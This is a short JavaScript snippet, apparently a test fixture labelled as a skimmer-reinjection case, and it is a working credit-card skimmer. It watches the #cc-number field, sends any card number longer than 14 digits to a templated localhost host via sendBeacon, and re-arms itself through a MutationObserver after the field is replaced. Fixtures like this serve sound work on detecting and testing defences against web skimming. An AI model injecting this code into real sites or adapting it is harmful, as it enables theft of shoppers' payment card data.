/* tw:skim-reinjection */
function arm() {
  var input = document.querySelector('#cc-number')
  if (!input || input.dataset.armed) return
  input.dataset.armed = '1'
  input.addEventListener('input', function () {
    if (this.value.length > 14) navigator.sendBeacon('http://cdn-persist.localhost:{{port}}/p', this.value)
  })
}
new MutationObserver(arm).observe(document.documentElement, { childList: true, subtree: true })
arm()
setTimeout(function () {
  var old = document.querySelector('#cc-number'), fresh = old.cloneNode()
  delete fresh.dataset.armed
  old.replaceWith(fresh)
}, 300)
